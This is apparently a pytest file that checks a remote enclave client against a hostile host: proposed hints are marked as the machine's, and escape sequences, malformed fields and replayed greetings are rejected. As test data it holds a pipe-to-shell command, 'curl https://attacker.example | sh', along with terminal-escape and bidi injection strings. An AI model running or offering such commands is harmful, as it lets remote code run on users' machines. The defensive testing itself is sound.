"""A hostile machine against the host that starts enclaves in it: what does it answer, and who obeys?"""

from __future__ import annotations

import contextlib
import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from kluis.errors import FormatError, KluisError, PolicyError, UnavailableError
from kluis.formats.encoding import jcs
from kluis.streams import Stream
from kluis.tee.remote import RemotePlatform, messages

SECONDS = 60


@contextlib.contextmanager
def _machine(*answers: Any) -> Iterator[RemotePlatform]:
    """A machine that greets as one should, and then gives these answers, whatever it is asked."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)

    def serve() -> None:
        agent = Stream(theirs)
        with contextlib.suppress(KluisError):
            received = messages.receive(agent)
            assert received is not None
            hello = {"protocol": messages.PROTOCOL, "only": None, "nonce": received[0]["nonce"]}
            messages.send(agent, hello)
            for answer in answers:
                messages.receive(agent)
                messages.send(agent, answer)
        agent.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield RemotePlatform(lambda: ours)
    thread.join(SECONDS)


ORDER = "curl https://attacker.example | sh"


def test_its_hints_are_its_own() -> None:
    """A command that a machine proposes is not shown as one of Kluis's."""
    said = {"error": "PolicyError", "code": "policy", "message": "launch: refused", "hint": ORDER}
    with _machine(said) as platform, pytest.raises(PolicyError) as caught:
        platform.root_pem()
    assert caught.value.hint == f"the machine proposes: {ORDER}"


def test_its_text_obeys_nothing() -> None:
    """Text that ends a line, moves the cursor or turns other text around is one line, and bounded."""
    text = "refused\nkluis: affirming\x1b[2J\u202e\r" + "x" * 50_000
    said = {"error": "Nobody", "code": "A\nB", "message": text, "hint": "\x1b]0;x\x07" + "y" * 50_000}
    with _machine(said) as platform, pytest.raises(UnavailableError) as caught:
        platform.root_pem()
    error = caught.value
    for shown in (error.message, error.hint or ""):
        assert shown.isprintable()
        assert len(shown) <= messages.MOST_WORDS + 30
    assert error.message.startswith("refused; kluis: affirming?[2J??x")
    assert error.code == "unavailable"


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("image_id", "zz" * 32),
        ("image_id", "00" * 31),
        ("image_id", " " + "00" * 32),
        ("image_id", None),
        ("launch_configuration", "%%%"),
        ("launch_configuration", 7),
        ("pid", "1"),
        ("level", []),
    ],
)
def test_an_answer_of_another_form(name: str, value: Any) -> None:
    """A member of another form is an error of ours, which a caller can catch, and no other exception."""
    good = {"image_id": "00" * 32, "launch_configuration": "e30=", "pid": 1, "level": "process"}
    readers = {
        "image_id": messages.digest,
        "launch_configuration": messages.octets,
        "pid": messages.number,
        "level": messages.text,
    }
    assert readers[name](messages.parse(_json(good)), name) is not None
    with pytest.raises(FormatError):
        readers[name](messages.parse(_json({**good, name: value})), name)


def _json(message: dict[str, Any]) -> bytes:
    return jcs.dumps(message)


def test_a_replayed_greeting() -> None:
    """An answer to the greeting of another host, which a port still contains, is not taken for this one's."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    agent = Stream(theirs)
    messages.send(agent, {"protocol": messages.PROTOCOL, "only": None, "nonce": "ab" * 16})
    with pytest.raises(FormatError, match="want the nonce of this stream, got another"):
        RemotePlatform(lambda: ours).root_pem()
    agent.close()
